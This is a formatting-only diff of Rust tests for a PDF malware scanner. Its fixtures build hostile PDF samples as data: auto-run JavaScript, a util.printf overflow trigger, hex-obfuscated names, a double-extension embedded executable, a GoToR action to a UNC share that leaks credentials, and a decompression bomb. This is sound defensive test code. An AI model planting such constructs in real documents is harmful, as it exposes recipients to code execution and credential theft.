@@ -47,7 +47,10 @@ fn sev(n: &Node, id: &str) -> Option<Severity> {
 
 fn pages() -> Vec<(u32, Vec<u8>)> {
     vec![
-        o(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>"),
+        o(
+            2,
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>",
+        ),
         o(3, "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"),
         stream(4, "", b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"),
     ]
@@ -57,27 +60,52 @@ fn pages() -> Vec<(u32, Vec<u8>)> {
 fn open_action_javascript_is_critical() {
     let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")];
     objs.extend(pages());
-    objs.push(o(5, "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>"));
+    objs.push(o(
+        5,
+        "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
+    ));
     let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
     assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
     assert_eq!(sev(&n, "pdf.javascript"), Some(Severity::High));
     assert_eq!(sev(&n, "pdf.open_action"), Some(Severity::Medium));
-    let js = n.findings.iter().find(|f| f.id == "pdf.javascript").unwrap();
-    assert!(js.evidence[0].value.contains("app.alert('hello');"), "{js:?}");
+    let js = n
+        .findings
+        .iter()
+        .find(|f| f.id == "pdf.javascript")
+        .unwrap();
+    assert!(
+        js.evidence[0].value.contains("app.alert('hello');"),
+        "{js:?}"
+    );
     assert!(js.techniques.contains(&"T1059.007".to_string()));
-    assert!(n.format.as_deref().unwrap().contains("1 page"), "{:?}", n.format);
+    assert!(
+        n.format.as_deref().unwrap().contains("1 page"),
+        "{:?}",
+        n.format
+    );
 }
 
 #[test]
 fn script_in_a_stream_and_document_level_names() {
-    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 6 0 R >> >>")];
+    let mut objs = vec![o(
+        1,
+        "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 6 0 R >> >>",
+    )];
     objs.extend(pages());
     objs.push(o(6, "<< /Names [(init) 7 0 R] >>"));
     objs.push(o(7, "<< /S /JavaScript /JS 8 0 R >>"));
-    objs.push(stream(8, "/Filter /FlateDecode", &zlib(b"var x = util.printf('%45000f', 1);")));
+    objs.push(stream(
+        8,
+        "/Filter /FlateDecode",
+        &zlib(b"var x = util.printf('%45000f', 1);"),
+    ));
     let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
     assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
-    let s = n.findings.iter().find(|f| f.id == "pdf.js_suspicious").unwrap();
+    let s = n
+        .findings
+        .iter()
+        .find(|f| f.id == "pdf.js_suspicious")
+        .unwrap();
     assert!(s.evidence[0].value.contains("util.printf"));
 }
 
@@ -91,7 +119,10 @@ fn action_hidden_in_an_object_stream() {
     let mut objs = pages();
     objs.push(stream(
         9,
-        &format!("/Type /ObjStm /N 2 /First {} /Filter /FlateDecode", header.len()),
+        &format!(
+            "/Type /ObjStm /N 2 /First {} /Filter /FlateDecode",
+            header.len()
+        ),
         &zlib(body.as_bytes()),
     ));
     let data = pdf(&objs, "<< /Root 1 0 R >>");
@@ -104,13 +135,23 @@ fn action_hidden_in_an_object_stream() {
 
 #[test]
 fn hex_escaped_names_are_decoded_and_flagged() {
-    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /Op#65nAction 5 0 R >>")];
+    let mut objs = vec![o(
+        1,
+        "<< /Type /Catalog /Pages 2 0 R /Op#65nAction 5 0 R >>",
+    )];
     objs.extend(pages());
-    objs.push(o(5, "<< /S /J#61vaScript /#4AS <6170702e616c657274283129> >>"));
+    objs.push(o(
+        5,
+        "<< /S /J#61vaScript /#4AS <6170702e616c657274283129> >>",
+    ));
     let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
     assert_eq!(sev(&n, "pdf.obfuscated_name"), Some(Severity::High));
     assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
-    let js = n.findings.iter().find(|f| f.id == "pdf.javascript").unwrap();
+    let js = n
+        .findings
+        .iter()
+        .find(|f| f.id == "pdf.javascript")
+        .unwrap();
     assert_eq!(js.evidence[0].value, "app.alert(1)");
 }
 
@@ -137,7 +178,10 @@ fn embedded_file_is_extracted_under_its_name() {
         "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> >>",
     )];
     objs.extend(pages());
-    objs.push(o(6, "<< /Type /Filespec /F (scan.pdf.exe) /UF (scan.pdf.exe) /EF << /F 7 0 R >> >>"));
+    objs.push(o(
+        6,
+        "<< /Type /Filespec /F (scan.pdf.exe) /UF (scan.pdf.exe) /EF << /F 7 0 R >> >>",
+    ));
     objs.push(stream(
         7,
         "/Type /EmbeddedFile /Filter /ASCIIHexDecode",
@@ -145,10 +189,18 @@ fn embedded_file_is_extracted_under_its_name() {
     ));
     let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
     assert_eq!(sev(&n, "pdf.embedded_file"), Some(Severity::High));
-    let child = n.children.iter().find(|c| c.name == "scan.pdf.exe").unwrap();
+    let child = n
+        .children
+        .iter()
+        .find(|c| c.name == "scan.pdf.exe")
+        .unwrap();
     assert_eq!(child.size, 11);
     // The name checks run on the extracted member.
-    assert!(child.has("attachment.double_extension"), "{:?}", child.findings);
+    assert!(
+        child.has("attachment.double_extension"),
+        "{:?}",
+        child.findings
+    );
 }
 
 #[test]
@@ -162,7 +214,11 @@ fn plain_pdf_with_links_stays_informational() {
         o(6, "<< /Type /Annot /Subtype /Link /Rect [72 680 200 692] /A << /S /URI /URI (https://example.org/b) >> >>"),
     ];
     let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
-    assert!(n.all_findings().all(|f| f.severity == Severity::Info), "{:?}", n.findings);
+    assert!(
+        n.all_findings().all(|f| f.severity == Severity::Info),
+        "{:?}",
+        n.findings
+    );
     assert!(n.has("pdf.uri") && n.has("pdf.open_action"));
 }
 
@@ -183,7 +239,10 @@ fn one_big_link_over_the_page_is_a_lure() {
 fn encryption_and_filter_chains() {
     let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R >>")];
     objs.extend(pages());
-    objs.push(o(9, "<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -4 >>"));
+    objs.push(o(
+        9,
+        "<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -4 >>",
+    ));
     objs.push(stream(
         10,
         "/Filter [/ASCIIHexDecode /ASCIIHexDecode /FlateDecode]",
@@ -198,7 +257,10 @@ fn encryption_and_filter_chains() {
 
 #[test]
 fn form_helpers_are_low() {
-    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>")];
+    let mut objs = vec![o(
+        1,
+        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
+    )];
     objs.extend(pages());
     objs.push(o(
         5,
@@ -214,9 +276,16 @@ fn form_helpers_are_low() {
 fn remote_goto_to_a_share_leaks_credentials() {
     let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")];
     objs.extend(pages());
-    objs.push(o(5, "<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >>"));
+    objs.push(o(
+        5,
+        "<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >>",
+    ));
     let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
-    let f = n.findings.iter().find(|f| f.id == "pdf.remote_goto").unwrap();
+    let f = n
+        .findings
+        .iter()
+        .find(|f| f.id == "pdf.remote_goto")
+        .unwrap();
     assert_eq!(f.severity, Severity::High, "{f:?}");
 }
 
@@ -242,7 +311,11 @@ fn hostile_bytes_do_not_panic() {
     }
     let bomb = e.finish().unwrap();
     seeds.push(pdf(
-        &[stream(1, "/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode", &bomb)],
+        &[stream(
+            1,
+            "/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode",
+            &bomb,
+        )],
         "<< >>",
     ));
     for s in &seeds {
